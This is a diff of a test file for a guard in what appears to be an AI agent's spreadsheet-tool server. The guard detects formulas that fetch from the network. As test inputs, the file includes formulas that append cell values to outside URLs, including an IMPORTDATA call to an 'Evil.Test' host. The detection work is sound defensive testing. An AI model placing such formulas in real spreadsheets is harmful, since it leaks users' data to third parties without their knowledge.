@@ -1,8 +1,9 @@
 import { describe, expect, it } from 'vitest';
 import { mcpSettingsSchema } from '../src/settings.ts';
-import { FETCH_FUNCTIONS, fetchesInFormula } from '../src/tools/guards/fetch-formulas.ts';
+import { fetchesInFormula } from '../src/tools/guards/fetch-formulas.ts';
 import { OUTBOUND_TOOLS, outboundActions } from '../src/tools/guards/outbound-actions.ts';
 import { ceilingRefusal, NO_CEILING } from '../src/tools/guards/outbound-ceiling.ts';
+import { OUTBOUND_FUNCTIONS } from '../src/tools/kit/formula-text.ts';
 import { registeredTools } from '../src/tools/registry.ts';
 
 // The outbound classifier (issue 37): each outbound action a call would take, for a Workspace
@@ -138,7 +139,7 @@ describe('formulas that fetch', () => {
   const exfiltrating = '=IMAGE("https://example.net/?"&A1)';
 
   it('finds each function of the documented list, called, in any case, and the hosts written in it', () => {
-    for (const name of FETCH_FUNCTIONS) {
+    for (const name of OUTBOUND_FUNCTIONS) {
       expect(fetchesInFormula(`=${name.toLowerCase()} ("x")`)?.functions, name).toEqual([name]);
     }
     expect(fetchesInFormula('=IFERROR(IMPORTDATA("http://Evil.Test:8080/a?"&B2), 0)')).toEqual({
@@ -148,6 +149,8 @@ describe('formulas that fetch', () => {
     expect(fetchesInFormula('=SUM(A1:A3)')).toBeUndefined();
     expect(fetchesInFormula('=MYIMAGE(A1)')).toBeUndefined();
     expect(fetchesInFormula('IMAGE("https://example.net")')).toBeUndefined();
+    // A name inside a string literal is text.
+    expect(fetchesInFormula('=LEN("IMAGE(x)")&A1')).toBeUndefined();
   });
 
   it('in the values of write_range, write_ranges, append_rows and create_spreadsheet, not when RAW', () => {
@@ -202,7 +205,7 @@ describe('formulas that fetch', () => {
     ).toEqual([]);
   });
 
-  it('in find_replace, evaluate_formulas and rule conditions', () => {
+  it('in find_replace and rule conditions; evaluate_formulas refuses them itself', () => {
     expect(
       kinds(outboundActions({ name: 'find_replace', args: { find: 'SUM', replacement: 'image' } }, alice)),
     ).toHaveLength(1);
@@ -210,13 +213,11 @@ describe('formulas that fetch', () => {
       kinds(outboundActions({ name: 'find_replace', args: { find: 'a', replacement: 'b' } }, alice)),
     ).toEqual([]);
     expect(
-      kinds(
-        outboundActions(
-          { name: 'evaluate_formulas', args: { formulas: ['=IMPORTFEED("https://f.example/x")'] } },
-          alice,
-        ),
+      outboundActions(
+        { name: 'evaluate_formulas', args: { formulas: ['=IMPORTFEED("https://f.example/x")'] } },
+        alice,
       ),
-    ).toEqual(['fetch f.example']);
+    ).toEqual([]);
     for (const name of ['set_data_validation', 'add_conditional_format', 'update_conditional_format']) {
       // The condition's text starts with its type: the formula after it is found all the same.
       const args = { range: 'A1', condition: 'CUSTOM_FORMULA =ISERROR(IMAGE("https://h.example/"&A1))' };
